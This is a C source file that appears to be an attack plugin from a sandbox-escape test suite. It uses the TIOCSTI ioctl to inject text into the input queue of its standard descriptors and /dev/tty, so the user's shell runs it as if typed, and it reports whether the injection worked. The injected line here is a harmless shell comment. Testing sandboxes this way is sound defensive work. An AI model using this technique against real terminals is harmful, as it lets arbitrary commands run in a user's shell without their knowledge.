/*
 * proc_tiocsti — pushes characters into the input queue of any terminal it can
 * reach (its standard descriptors, /dev/tty) with the TIOCSTI ioctl. Whatever
 * reads that terminal next — typically the user's shell once the program exits —
 * runs the injected text as if typed. The injected line here is a shell comment.
 */
#include "attack.h"

#include <sys/ioctl.h>

static int inject(int fd)
{
    static const char text[] = "# sbx-atk TIOCSTI\n";
    for (size_t i = 0; i < sizeof text - 1; i++) {
        if (ioctl(fd, TIOCSTI, &text[i]) != 0) {
            return 0;
        }
    }
    return 1;
}

static sbx_status attack(const atk_input *in, atk_out *out)
{
    int done = 0;
    (void)in;
    for (int fd = 0; fd < 3; fd++) {
        if (inject(fd)) {
            atk_gained(out, "injected input into the terminal on fd %d", fd);
            done = 1;
        } else {
            atk_failed(out, "TIOCSTI", errno);
        }
    }
    int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (tty >= 0) {
        if (inject(tty)) {
            atk_gained(out, "injected input into /dev/tty");
            done = 1;
        } else {
            atk_failed(out, "TIOCSTI /dev/tty", errno);
        }
        close(tty);
    } else {
        atk_failed(out, "open /dev/tty", errno);
    }
    return done ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
